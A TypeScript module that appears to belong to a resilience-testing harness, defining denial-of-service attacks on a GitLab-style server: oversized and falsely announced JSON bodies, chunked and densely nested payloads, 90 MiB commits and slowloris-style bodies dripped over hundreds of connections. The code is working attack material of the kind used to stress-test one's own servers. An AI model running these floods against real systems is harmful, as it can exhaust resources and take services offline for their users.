import { repeat, type Attack } from './attack.js';
import { WirePost } from './wire.js';

const MIB = 2 ** 20;
const JSON_TYPE = 'Content-Type: application/json';

/** JSON of 100 MiB to the paths of git, of which 16 MiB are sent, from 48 connections. */
export const jsonForGit: Attack = async ({ url, gitPath }, tally) => {
  const body = Buffer.alloc(16 * MIB, ' ');
  const headers = [JSON_TYPE, `Content-Length: ${100 * MIB}`];
  const path = `${gitPath}/git-upload-pack`;
  repeat(tally, 48, 500, (lane) => answer(WirePost.send(url, { path, headers, body, from: `127.0.5.${1 + lane}` })));
};

/** JSON of 100 MiB for the API: announced, in chunks, and with a token that may not write. */
export const largeJson: Attack = async ({ url, token, narrowToken }, tally) => {
  const chunk = `${(8 * MIB).toString(16)}\r\n${' '.repeat(8 * MIB)}\r\n`;
  const length = `Content-Length: ${100 * MIB}`;
  const kinds = [
    { headers: [`Private-Token: ${token}`, JSON_TYPE, length], body: `{"name":"${'x'.repeat(8 * MIB)}` },
    { headers: [`Private-Token: ${token}`, JSON_TYPE, 'Transfer-Encoding: chunked'], body: chunk },
    { headers: [`Private-Token: ${narrowToken}`, JSON_TYPE, length], body: '{' },
  ];
  repeat(tally, 12, 100, (lane) => answer(WirePost.send(url, { path: '/api/v4/projects', ...kinds[lane % 3]! })));
};

/** JSON of just below the limit, of as many values as fit. */
export const densestJson: Attack = async ({ url, token }, tally) => {
  const body = `{"name":[${'[],'.repeat(MIB / 3 - 10)}0]}`;
  repeat(tally, 4, 100, async () => {
    const headers = { 'content-type': 'application/json', 'private-token': token };
    const response = await fetch(`${url}/api/v4/projects`, { method: 'POST', headers, body });
    await response.arrayBuffer();
    return response.status;
  });
};

/** Commits with a file of 90 MiB, which their endpoint takes; the file to change does not exist. */
export const largeCommits: Attack = async ({ url, projectId, token }, tally) => {
  const action = { action: 'update', file_path: 'missing', content: 'x'.repeat(90 * MIB) };
  const body = Buffer.from(JSON.stringify({ branch: 'main', commit_message: 'large', actions: [action] }));
  const headers = [`Private-Token: ${token}`, JSON_TYPE, `Content-Length: ${body.length}`];
  const path = `/api/v4/projects/${projectId}/repository/commits`;
  repeat(tally, 4, 100, () => answer(WirePost.send(url, { path, headers, body })));
};

/** Bodies that come a byte a second, on 300 connections. */
export const slowBodies: Attack = async ({ url, gitPath, token }, tally) => {
  const basic = Buffer.from(`oauth2:${token}`).toString('base64');
  const kinds = [
    { path: '/api/v4/projects', headers: [`Private-Token: ${token}`, JSON_TYPE, 'Content-Length: 100000'] },
    {
      path: `${gitPath}/git-receive-pack`,
      headers: [
        `Authorization: Basic ${basic}`,
        'Content-Type: application/x-git-receive-pack-request',
        'Content-Length: 100000',
      ],
    },
  ];
  repeat(tally, 300, 1_000, async (lane) => {
    const post = WirePost.send(url, { ...kinds[lane % 2]!, body: '' });
    const dripping = setInterval(() => post.write(' '), 1_000);
    return answer(post).finally(() => clearInterval(dripping));
  });
};

export async function answer(post: WirePost): Promise<number> {
  try {
    return await post.status;
  } finally {
    post.end();
  }
}
